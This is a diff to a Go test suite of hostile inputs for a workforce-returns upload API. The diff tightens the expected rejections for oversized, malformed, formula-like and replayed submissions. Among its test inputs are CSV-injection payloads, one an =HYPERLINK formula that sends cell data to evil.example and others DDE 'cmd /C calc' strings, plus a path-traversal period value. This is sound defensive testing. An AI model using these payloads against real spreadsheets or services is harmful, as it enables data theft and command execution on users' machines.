@@ -472,6 +472,8 @@ func hostileCases(t *testing.T, base *hostileEnv) []hostileCase {
 		return b.String()
 	}
 	long := strings.Repeat("a", 4000)
+	// Idempotency records outlive a run of the tests: subjects and keys are new each run.
+	run := base.org.Code
 	big := strings.Repeat("a", 3<<20)
 
 	return []hostileCase{
@@ -586,7 +588,7 @@ func hostileCases(t *testing.T, base *hostileEnv) []hostileCase {
 			status: 413, code: workforce.ETooLarge, message: "4.0 MB"},
 		{name: "exactly the upload limit is read, and refused for what it is", contentType: "text/csv",
 			body:   func(*hostileEnv) []byte { return bytes.Repeat([]byte("x"), 4<<20) },
-			status: 422, code: "bad_header"},
+			status: 422, code: "value_too_long", message: "too long"},
 		{name: "text just over Lambda's 6 MiB event", contentType: "text/csv",
 			body:   func(*hostileEnv) []byte { return bytes.Repeat([]byte("x"), 6<<20) },
 			status: 413, message: "Request Entity Too Large"},
@@ -599,7 +601,7 @@ func hostileCases(t *testing.T, base *hostileEnv) []hostileCase {
 
 		// CSV.
 		{name: "CSV with 100,000 unknown fields", contentType: "text/csv", body: func(*hostileEnv) []byte { return unknownRows(100_000) },
-			status: 422, code: "unknown_field", message: "is not a field"},
+			status: 422, code: "too_many_rows", message: "more than 200 rows"},
 		{name: "bulk CSV with 100,000 unknown columns", token: admin, path: "/returns/bulk", contentType: "text/csv",
 			body: func(e *hostileEnv) []byte {
 				var b bytes.Buffer
@@ -609,17 +611,17 @@ func hostileCases(t *testing.T, base *hostileEnv) []hostileCase {
 				b.WriteString("org\n")
 				b.WriteString(strings.Repeat("1,", 100_000) + e.org.Code + "\n")
 				return b.Bytes()
-			}, status: 422, code: "unknown_field"},
+			}, status: 422, code: "too_many_columns", message: "more than 100 columns"},
 		{name: "3 MB field name", contentType: "text/csv", body: func(*hostileEnv) []byte { return []byte("field,value\n" + big + ",1\n") },
-			status: 422, code: "unknown_field", absent: big[:100_000]},
+			status: 422, code: "value_too_long", message: "field name on line 2", absent: big[:100_000]},
 		{name: "1 MB of notes on one line", contentType: "text/csv",
 			body: func(e *hostileEnv) []byte {
 				return csvOf(e.with(map[string]string{"notes": strings.Repeat("n", 1<<20)}))
 			},
-			status: 422, code: "too_long", absent: strings.Repeat("n", 10_000)},
+			status: 422, code: "value_too_long", message: "2,000 characters", absent: strings.Repeat("n", 10_000)},
 		{name: "200,000 columns on one line", contentType: "text/csv",
 			body:   func(*hostileEnv) []byte { return []byte("field,value\n" + strings.Repeat("a,", 200_000) + "\n") },
-			status: 422, code: "bad_row"},
+			status: 422, code: "too_many_columns", message: "more than 100 columns"},
 		{name: "unterminated quote", contentType: "text/csv",
 			body:   func(e *hostileEnv) []byte { return append(csvOf(e.values), "notes,\"never closed\n"...) },
 			status: 422, code: "bad_csv"},
@@ -642,29 +644,42 @@ func hostileCases(t *testing.T, base *hostileEnv) []hostileCase {
 
 		// Control characters and formula-like text.
 		{name: "NUL in notes", contentType: "text/csv",
-			body: func(e *hostileEnv) []byte { return csvOf(e.with(map[string]string{"notes": "before\x00after"})) }, status: 422, code: "invalid_text"},
+			body: func(e *hostileEnv) []byte { return csvOf(e.with(map[string]string{"notes": "before\x00after"})) }, status: 422, code: "control_character", message: "NUL"},
 		{name: "ESC in contact_name", contentType: apigw.ContentTypeJSON,
-			body: func(e *hostileEnv) []byte { return jsonOf(e.with(map[string]string{"contact_name": "\x1b[2JAda"})) }, status: 422, code: "invalid_text"},
-		{name: "=HYPERLINK in notes is stored, to be neutralised where written out", fresh: true, contentType: "text/csv",
+			body: func(e *hostileEnv) []byte { return jsonOf(e.with(map[string]string{"contact_name": "\x1b[2JAda"})) }, status: 422, code: "control_character", message: "escape"},
+		{name: "=HYPERLINK in notes", contentType: "text/csv",
 			body: func(e *hostileEnv) []byte {
 				return csvOf(e.with(map[string]string{"notes": `=HYPERLINK("https://evil.example/?d="&A1,"Click")`}))
-			}, status: 201},
-		{name: "@ formula in contact_name", fresh: true, contentType: apigw.ContentTypeJSON,
+			}, status: 422, code: "formula_like", message: "formula"},
+		{name: "@ formula in contact_name", contentType: apigw.ContentTypeJSON,
 			body: func(e *hostileEnv) []byte {
 				return jsonOf(e.with(map[string]string{"contact_name": "@SUM(1+1)*cmd|' /C calc'!A0"}))
-			}, status: 201},
-		{name: "+ formula in notes", fresh: true, contentType: "text/csv",
-			body: func(e *hostileEnv) []byte { return csvOf(e.with(map[string]string{"notes": "+1+cmd|' /C calc'!A0"})) }, status: 201},
+			},
+			status: 422, code: "formula_like", message: "formula"},
+		{name: "+ formula in notes", contentType: "text/csv",
+			body:   func(e *hostileEnv) []byte { return csvOf(e.with(map[string]string{"notes": "+1+cmd|' /C calc'!A0"})) },
+			status: 422, code: "formula_like", message: "formula"},
+		{name: "- formula in contact_name", contentType: "text/csv",
+			body: func(e *hostileEnv) []byte {
+				return csvOf(e.with(map[string]string{"contact_name": "-2+3+cmd|' /C calc'!A0"}))
+			},
+			status: 422, code: "formula_like", message: "formula"},
 
 		// Counts.
 		{name: "70000.0000000001 as a count", contentType: "text/csv",
 			body: func(e *hostileEnv) []byte { return csvOf(e.with(map[string]string{"headcount": "70000.0000000001"})) }, status: 422, code: "not_whole_number"},
 		{name: "7.3144e4 as a count", contentType: "text/csv",
-			body: func(e *hostileEnv) []byte { return csvOf(e.with(map[string]string{"headcount": "7.3144e4"})) }, status: 422, code: "not_whole_number"},
-		{name: "70000.0 as a count", contentType: "text/csv",
-			body: func(e *hostileEnv) []byte { return csvOf(e.with(map[string]string{"headcount": "70000.0"})) }, status: 422, code: "not_whole_number"},
+			body: func(e *hostileEnv) []byte { return csvOf(e.with(map[string]string{"headcount": "7.3144e4"})) }, status: 422, code: "scientific_notation",
+			message: "as 73144"},
+		{name: "70000.0, as a spreadsheet writes a whole number, is stored as 70000", fresh: true, contentType: "text/csv",
+			body: func(e *hostileEnv) []byte { return csvOf(e.with(map[string]string{"headcount": "70000.0"})) }, status: 201,
+			check: func(t *testing.T, e *hostileEnv, r localclient.Response) {
+				if v := e.h.view(e.submitter, "/returns/"+e.org.Code+"/2025-26-Q1"); fmt.Sprint(v.Values["headcount"]) != "70000" {
+					t.Errorf("headcount stored as %v, want 70000", v.Values["headcount"])
+				}
+			}},
 		{name: "7.3144e4 as a JSON number", contentType: apigw.ContentTypeJSON,
-			body: func(e *hostileEnv) []byte { return jsonOf(e.with(map[string]string{"headcount": "7.3144e4"})) }, status: 422, code: "not_whole_number"},
+			body: func(e *hostileEnv) []byte { return jsonOf(e.with(map[string]string{"headcount": "7.3144e4"})) }, status: 422, code: "scientific_notation"},
 		{name: "hexadecimal count", contentType: "text/csv",
 			body: func(e *hostileEnv) []byte { return csvOf(e.with(map[string]string{"ddat_entrants_total": "0x1F"})) }, status: 422, code: "not_a_number"},
 		{name: "count beyond int64", contentType: "text/csv",
@@ -685,14 +700,14 @@ func hostileCases(t *testing.T, base *hostileEnv) []hostileCase {
 		{name: "JSON nesting bomb in a value", contentType: apigw.ContentTypeJSON,
 			body: func(e *hostileEnv) []byte {
 				return jsonWith(e.values, `"notes":`+strings.Repeat("[", 100_000)+strings.Repeat("]", 100_000))
-			}, status: 422, code: "bad_json"},
+			}, status: 422, code: "too_deep", message: "nested more than"},
 		{name: "JSON nesting bomb at the top", contentType: apigw.ContentTypeJSON,
 			body: func(*hostileEnv) []byte { return []byte(strings.Repeat("[", 1_000_000)) }, status: 422, code: "bad_json"},
 		{name: "duplicate JSON keys", contentType: apigw.ContentTypeJSON,
 			body: func(e *hostileEnv) []byte { return jsonWith(e.values, `"headcount":1`) }, status: 422, code: "duplicate_field"},
 		{name: "JSON with 100,000 unknown keys", contentType: apigw.ContentTypeJSON,
 			body:   func(e *hostileEnv) []byte { return jsonWith(e.values, unknownMembers(100_000)) },
-			status: 422, code: "unknown_field"},
+			status: 422, code: "too_many_fields", message: "more than 200 properties"},
 		{name: "3 MB JSON key", contentType: apigw.ContentTypeJSON,
 			body:   func(e *hostileEnv) []byte { return jsonWith(e.values, `"`+big+`":1`) },
 			status: 422, code: "unknown_field", absent: big[:100_000]},
@@ -726,7 +741,7 @@ func hostileCases(t *testing.T, base *hostileEnv) []hostileCase {
 			body: func(e *hostileEnv) []byte {
 				return csvOf(e.with(map[string]string{"period": strings.Repeat("2025-26-Q1", 10_000)}))
 			},
-			status: 422, code: "invalid_period", absent: strings.Repeat("2025-26-Q1", 1000)},
+			status: 422, code: "value_too_long", absent: strings.Repeat("2025-26-Q1", 1000)},
 		{name: "period filter that is not a quarter", method: "GET", path: "/returns?period=2025%20Q1", status: 400, code: "invalid_period"},
 		{name: "template pre-filled with a traversal period", method: "GET", path: "/template?period=..%2F..%2F", status: 400, code: "invalid_period"},
 
@@ -740,41 +755,41 @@ func hostileCases(t *testing.T, base *hostileEnv) []hostileCase {
 		{name: "Idempotency-Key with non-ASCII", contentType: "text/csv", body: valid,
 			headers: map[string]string{"Idempotency-Key": "clé-1"}, status: 400, code: workforce.EBadRequest, message: "Idempotency-Key"},
 		{name: "same Idempotency-Key, different body", fresh: true, contentType: apigw.ContentTypeJSON,
-			headers: map[string]string{"Idempotency-Key": "same-key"},
+			headers: map[string]string{"Idempotency-Key": "same-key-" + run},
 			before: func(e *hostileEnv) {
-				r, _ := e.h.submit(e.submitter, apigw.ContentTypeJSON, jsonOf(e.values), map[string]string{"Idempotency-Key": "same-key"})
+				r, _ := e.h.submit(e.submitter, apigw.ContentTypeJSON, jsonOf(e.values), map[string]string{"Idempotency-Key": "same-key-" + run})
 				mustStatus(e.h.t, r, 201)
 			},
 			body:   func(e *hostileEnv) []byte { return jsonOf(e.with(map[string]string{"notes": "changed"})) },
 			status: 409, code: workforce.EConflict},
 		{name: "replayed Idempotency-Key with another organisation's claim", fresh: true, contentType: apigw.ContentTypeJSON,
-			headers: map[string]string{"Idempotency-Key": "replay-key"},
+			headers: map[string]string{"Idempotency-Key": "replay-" + run},
 			before: func(e *hostileEnv) {
-				tok, err := e.h.client.Token("replaying-user", e.org.Code, []string{"submitter"}, nil)
+				tok, err := e.h.client.Token("replaying-user-"+run, e.org.Code, []string{"submitter"}, nil)
 				if err != nil {
 					e.h.t.Fatal(err)
 				}
-				r, _ := e.h.submit(tok, apigw.ContentTypeJSON, jsonOf(e.values), map[string]string{"Idempotency-Key": "replay-key"})
+				r, _ := e.h.submit(tok, apigw.ContentTypeJSON, jsonOf(e.values), map[string]string{"Idempotency-Key": "replay-" + run})
 				mustStatus(e.h.t, r, 201)
 			},
 			token: func(e *hostileEnv) string {
-				tok, _ := e.h.client.Token("replaying-user", e.other.Code, []string{"submitter"}, nil)
+				tok, _ := e.h.client.Token("replaying-user-"+run, e.other.Code, []string{"submitter"}, nil)
 				return tok
 			},
 			body:   func(e *hostileEnv) []byte { return jsonOf(e.values) },
 			status: 403, code: workforce.EForbidden, absent: "submission_id"},
 		{name: "subject and key that would collide with another's scope", fresh: true, contentType: apigw.ContentTypeJSON,
-			headers: map[string]string{"Idempotency-Key": "b#c"},
+			headers: map[string]string{"Idempotency-Key": "b#c" + run},
 			before: func(e *hostileEnv) {
-				tok, err := e.h.client.Token("a#b", e.org.Code, []string{"submitter"}, nil)
+				tok, err := e.h.client.Token(run+"#b", e.org.Code, []string{"submitter"}, nil)
 				if err != nil {
 					e.h.t.Fatal(err)
 				}
-				r, _ := e.h.submit(tok, apigw.ContentTypeJSON, jsonOf(e.values), map[string]string{"Idempotency-Key": "c"})
+				r, _ := e.h.submit(tok, apigw.ContentTypeJSON, jsonOf(e.values), map[string]string{"Idempotency-Key": "c" + run})
 				mustStatus(e.h.t, r, 201)
 			},
 			token: func(e *hostileEnv) string {
-				tok, _ := e.h.client.Token("a", e.org.Code, []string{"submitter"}, nil)
+				tok, _ := e.h.client.Token(run, e.org.Code, []string{"submitter"}, nil)
 				return tok
 			},
 			body:   func(e *hostileEnv) []byte { return jsonOf(e.with(map[string]string{"notes": "a different return"})) },
